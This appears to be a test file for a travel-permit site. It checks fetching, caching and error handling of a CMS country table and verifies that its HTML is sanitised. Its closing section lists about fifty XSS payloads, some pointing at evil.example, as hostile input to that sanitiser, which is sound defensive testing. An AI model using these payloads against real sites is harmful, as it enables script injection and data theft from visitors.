import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { type KnownVerdict, verdictOf } from '@/domain/destinations/permit-verdict'
import { loadWirePermits, readPermitDetails } from '@/server/catalog/permits'
import { type CmsTimings, createPermitSource, defaultTimings } from '@/server/gateways/permit-cms'
import { openTestBackend } from '../support/backend'

const cleanups: (() => Promise<unknown>)[] = []
afterEach(async () => {
  await Promise.all(cleanups.splice(0).map(close => close()))
})

/** Starts a CMS with this response. Returns its URL and a counter of its requests. */
async function startCms(listener: RequestListener) {
  let requestCount = 0
  const server = createServer((request, response) => {
    requestCount += 1
    listener(request, response)
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const close = () =>
    new Promise(resolve => {
      server.close(resolve)
      server.closeAllConnections()
    })
  cleanups.push(close)
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/countries.json`,
    countRequests: () => requestCount,
    close,
  }
}

const respondWith =
  (body: unknown, status = 200): RequestListener =>
  (_, response) =>
    response
      .writeHead(status, { 'content-type': 'application/json' })
      .end(typeof body === 'string' ? body : JSON.stringify(body))

/**
 * The permit source of a URL, with its log and a clock. Tests that are not about waiting
 * wait as long as the machine needs.
 */
function createTestPermits(cmsUrl: string | undefined, timings: Partial<CmsTimings> = {}) {
  const log = { warn: vi.fn() }
  let now = 0
  const permits = createPermitSource({
    env: { cmsUrl },
    log,
    timings: { ...defaultTimings, maxWaitMs: 30_000, ...timings },
    clock: () => now,
  })
  return {
    permits,
    advanceClock: (milliseconds: number) => {
      now += milliseconds
    },
    listCountryIds: async () => [...(await permits()).table.keys()],
    readLog: () => JSON.stringify(log.warn.mock.calls),
    countWarnings: () => log.warn.mock.calls.length,
  }
}

const france = { from_: 'yes', in_: 'yes', digital_copy: true, validity: 3 }

const table = {
  fr: { ...france, country_link: '/international-drivers-license-france/' },
  ID: { ...france, digital_copy: false, validity: 1, recommendedLicense: 40 },
  Libya: { ...france, in_: 'yes_with_conditions', condition_using: '<p>By <b>day</b> only</p>' },
  Bali: { ...france, country_code: 'ID', digital_copy: false, validity: 1 },
  jp: { ...france, validity: 0, in_: 'no', description: 'Ask the embassy' },
}

describe('the country table of the CMS', () => {
  it('is the source of the advice that customers see', async () => {
    const { url } = await startCms(respondWith(table))
    const { permits, countWarnings } = createTestPermits(url)
    const rules = (await permits()).table
    const findVerdict = (id: string) => verdictOf(rules.get(id)) as KnownVerdict
    expect(['fr', 'id', 'ly', 'x-bali', 'jp', 'de'].map(id => findVerdict(id).kind)).toEqual([
      'accepted',
      'one_year_printed',
      'conditions',
      'one_year_printed',
      'not_accepted',
      'unknown',
    ])
    expect(findVerdict('fr').link).toBe('/international-drivers-license-france/')
    expect(findVerdict('id').recommendedLicense).toBe(40)
    expect(findVerdict('jp').lines).toEqual(['lines.not_accepted'])
    expect(countWarnings()).toBe(0)
  })

  it('may be a list', async () => {
    const { url } = await startCms(
      respondWith([
        { ...france, country_code: 'FR' },
        { ...france, country_code: 'Libya' },
      ]),
    )
    expect(await createTestPermits(url).listCountryIds()).toEqual(['fr', 'ly'])
  })

  it('adds its own texts to the pages of a country and to the details call', async () => {
    const { url } = await startCms(respondWith(table))
    const { permits } = createTestPermits(url)
    const texts = {
      condition_issuing: '',
      condition_using: '<p>By <b>day</b> only</p>',
      description: '',
    }
    const page = await loadWirePermits({ permits }, ['LY', 'fr', 'zz'])
    expect(page.details).toEqual({ ly: texts })
    expect(page.groups.filter(group => group.has_note)).toEqual([])
    expect(await readPermitDetails({ permits }, { params: { id: 'ly' } })).toEqual(texts)
    for (const id of ['fr', 'zz', '__proto__', ''])
      await expect(readPermitDetails({ permits }, { params: { id } })).rejects.toMatchObject({
        code: 'not_found',
      })
  })

  it('drops unreadable records only', async () => {
    const invalidRecords = { de: { ...france, validity: 5 }, at: 'yes', Atlantis: france, pt: null }
    const { url } = await startCms(respondWith({ ...invalidRecords, ...table }))
    const { listCountryIds, readLog } = createTestPermits(url)
    expect(await listCountryIds()).toEqual(['fr', 'id', 'ly', 'x-bali', 'jp'])
    expect(readLog()).toContain('"kept":5,"dropped":4,"first":["de","at","Atlantis","pt"]')
  })

  it('is the built-in one without a CMS', async () => {
    const { table: rules, details } = await createTestPermits(undefined).permits()
    expect(rules.size).toBe(252)
    expect(rules.get('jp')?.has_note).toBe(true)
    expect(details.size).toBe(0)
  })

  it('is fetched from CMS_URL', async () => {
    const { url } = await startCms(respondWith(table))
    const shop = await openTestBackend({ variables: { CMS_URL: url } })
    cleanups.push(shop.close)
    await vi.waitFor(async () => expect((await shop.backend.permits()).table.size).toBe(5))
  })
})

const canary = 'canary@example.com'

describe('there is no advice, and the log gives the reason without the response, when the CMS', () => {
  it.each<[string, RequestListener, string]>([
    ['answers 500', respondWith({ ...table, canary }, 500), 'answered 500'],
    ['answers 404', respondWith(canary, 404), 'answered 404'],
    ['answers 204', (_, response) => response.writeHead(204).end(), 'answered 204'],
    ['answers garbage', respondWith(`${canary} {"fr":`), 'no JSON'],
    ['answers with an empty body', respondWith(''), 'no JSON'],
    ['answers with HTML', respondWith(`<html>${canary}</html>`), 'no JSON'],
    ['answers null', respondWith('null'), 'no table'],
    ['answers a number', respondWith('42'), 'no table'],
    ['answers a string', respondWith(JSON.stringify(canary)), 'no table'],
    ['answers an empty list', respondWith([]), 'no table'],
    ['answers an empty object', respondWith({}), 'no table'],
    ['answers with another shape', respondWith({ error: canary, countries: [canary] }), 'no table'],
    ['has only bad records', respondWith({ fr: { ...france, validity: '3' } }), 'no table'],
    ['is nested too deeply', respondWith(`${'['.repeat(200_000)}${']'.repeat(200_000)}`), 'no'],
    [
      'breaks off the body',
      (_, response) => response.writeHead(200).write('{', () => response.destroy()),
      '',
    ],
    ['closes the connection', (_, response) => void response.destroy(), 'fetch failed'],
  ])('%s', async (_, listener, reason) => {
    const { url } = await startCms(listener)
    const { permits, readLog, countWarnings } = createTestPermits(url)
    expect(await loadWirePermits({ permits }, ['fr'])).toEqual({ groups: [], details: {} })
    expect(countWarnings()).toBe(1)
    expect(readLog()).toContain(reason)
    expect(readLog()).not.toContain(canary)
  })

  it.each([
    ['a content length', true],
    ['no content length', false],
  ])('sends 3 MB with %s', async (_, hasContentLength) => {
    const body = JSON.stringify({ ...table, padding: 'x'.repeat(3 * 1024 * 1024) })
    const { url } = await startCms((_, response) => {
      if (hasContentLength) response.setHeader('content-length', body.length)
      response.end(body)
    })
    const { listCountryIds, readLog } = createTestPermits(url)
    expect(await listCountryIds()).toEqual([])
    expect(readLog()).toContain('too large')
  })

  it('refuses the connection', async () => {
    const { url, close } = await startCms(respondWith(table))
    await close()
    const { listCountryIds, readLog } = createTestPermits(url)
    expect(await listCountryIds()).toEqual([])
    expect(readLog()).toContain('ECONNREFUSED')
  })

  it('redirects to another address', async () => {
    const redirectTarget = await startCms(respondWith(table))
    const { url } = await startCms((_, response) =>
      response.writeHead(302, { location: redirectTarget.url }).end(),
    )
    const { listCountryIds, readLog } = createTestPermits(url)
    expect(await listCountryIds()).toEqual([])
    expect(readLog()).toContain('answered 302')
    expect(redirectTarget.countRequests()).toBe(0)
  })

  it.each<[string, RequestListener]>([
    ['never answers', () => undefined],
    ['never finishes the body', (_, response) => void response.writeHead(200).write('{"fr":')],
  ])('%s', async (_, listener) => {
    const { url } = await startCms(listener)
    const { listCountryIds, readLog } = createTestPermits(url, { timeoutMs: 30 })
    expect(await listCountryIds()).toEqual([])
    expect(readLog()).toContain('TimeoutError')
  })
})

describe('a page', () => {
  it('continues without advice while the table is slow, and the next one has it', async () => {
    let release = () => undefined as unknown
    const { url, countRequests } = await startCms((request, response) => {
      release = () => respondWith(table)(request, response)
    })
    const { listCountryIds } = createTestPermits(url, { maxWaitMs: 10 })
    expect(await listCountryIds()).toEqual([])
    expect(await listCountryIds()).toEqual([])
    await vi.waitFor(() => expect(countRequests()).toBe(1))
    release()
    await vi.waitFor(async () => expect(await listCountryIds()).toContain('fr'))
    expect(countRequests()).toBe(1)
  })

  it('shares one fetch with all others', async () => {
    const { url, countRequests } = await startCms(respondWith(table))
    const { listCountryIds } = createTestPermits(url)
    const results = await Promise.all(Array.from({ length: 20 }, listCountryIds))
    expect(results.every(ids => ids.includes('fr'))).toBe(true)
    expect(countRequests()).toBe(1)
  })

  it('uses a table for ten minutes, and never waits for a newer one', async () => {
    let responseBody: unknown = table
    const { url, countRequests } = await startCms((...args) => respondWith(responseBody)(...args))
    const { listCountryIds, advanceClock } = createTestPermits(url)
    await listCountryIds()
    responseBody = { de: france }
    advanceClock(defaultTimings.maxAgeMs - 1)
    expect(await listCountryIds()).toContain('fr')
    expect(countRequests()).toBe(1)
    advanceClock(1)
    expect(await listCountryIds()).toContain('fr')
    await vi.waitFor(async () => expect(await listCountryIds()).toEqual(['de']))
    expect(countRequests()).toBe(2)
  })

  it('does not ask a failing CMS again for half a minute', async () => {
    let status = 500
    const { url, countRequests } = await startCms((...args) => respondWith(table, status)(...args))
    const { listCountryIds, advanceClock, countWarnings } = createTestPermits(url)
    expect([await listCountryIds(), await listCountryIds()]).toEqual([[], []])
    status = 200
    advanceClock(defaultTimings.backoffMs - 1)
    expect(await listCountryIds()).toEqual([])
    expect([countRequests(), countWarnings()]).toEqual([1, 1])
    advanceClock(1)
    expect(await listCountryIds()).toContain('fr')
    expect(countRequests()).toBe(2)
  })

  it('uses a stale table while the CMS fails, but only for a day', async () => {
    let status = 200
    const { url } = await startCms((...args) => respondWith(table, status)(...args))
    const { listCountryIds, advanceClock, countWarnings } = createTestPermits(url)
    await listCountryIds()
    status = 500
    advanceClock(defaultTimings.maxAgeMs)
    expect(await listCountryIds()).toContain('fr')
    await vi.waitFor(() => expect(countWarnings()).toBe(1))
    advanceClock(defaultTimings.staleIfErrorMs - defaultTimings.maxAgeMs - 1)
    expect(await listCountryIds()).toContain('fr')
    await vi.waitFor(() => expect(countWarnings()).toBe(2))
    advanceClock(defaultTimings.backoffMs)
    expect(await listCountryIds()).toEqual([])
  })
})

const hostileHtml = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
  '<b/onpointerenter=alert(1)>a</b>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="  java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="https://evil.example/&quot; onclick=&quot;alert(1)">a</a>',
  '<a href=\'https://evil.example/" onclick="alert(1)\'>a</a>',
  '<a href="https://a.example" target="x" rel="opener" ping="https://evil.example" download>a</a>',
  '<a xlink:href="javascript:alert(1)" href="https://a.example">a</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<style>@import "//evil.example"; * { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(https://evil.example/track)">a</p>',
  '<link rel=stylesheet href=//evil.example><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.example>',
  '<form action="https://evil.example"><input name=card><button formaction="javascript:alert(1)">a',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<p>--!><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<<p>img src=x onerror=alert(1)//<</p>',
  '<p title="a>b" <img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
  '<p id="__NEXT_DATA__">a</p><form id=token><input name=attributes>',
  `${'<b>'.repeat(500)}<img src=x onerror=alert(1)>`,
  '<p>a\u0000<scr\u0000ipt>alert(1)</script>',
]

/** All that may reach a page: text, plain tags without attributes, https links. */
const harmlessHtml = new RegExp(
  `^(?:[^<>]|</?(?:p|b|strong|i|em|ul|ol|li)>|<br />|</a>|` +
    `<a href="https://[^"<>\\s]*" rel="noopener noreferrer" target="_blank">)*$`,
)

describe('hostile HTML', () => {
  it('never reaches a page', async () => {
    const records = hostileHtml.map((html, index) => ({
      ...france,
      country_code: ['fr', 'de', 'it'][index % 3],
      description: html,
      condition_using: `<p>Before ${html} after</p>`,
      condition_issuing: html.toUpperCase(),
    }))
    for (const record of records) {
      const { url, close } = await startCms(respondWith([record]))
      const { details } = await createTestPermits(url).permits()
      for (const html of [...details.values()].flatMap(texts => Object.values(texts)))
        expect(html).toMatch(harmlessHtml)
      await close()
    }
  })

  it('in a name or a link is dropped', async () => {
    const injection = '"><script>alert(1)</script>'
    const { url } = await startCms(
      respondWith({
        fr: { ...france, country_name: injection, country_link: `https://a.example/${injection}` },
      }),
    )
    const { permits } = createTestPermits(url)
    const page = JSON.stringify(await loadWirePermits({ permits }, ['fr']))
    expect(page).not.toContain('script')
    expect(page).toContain('"destinations":"fr"')
  })
})
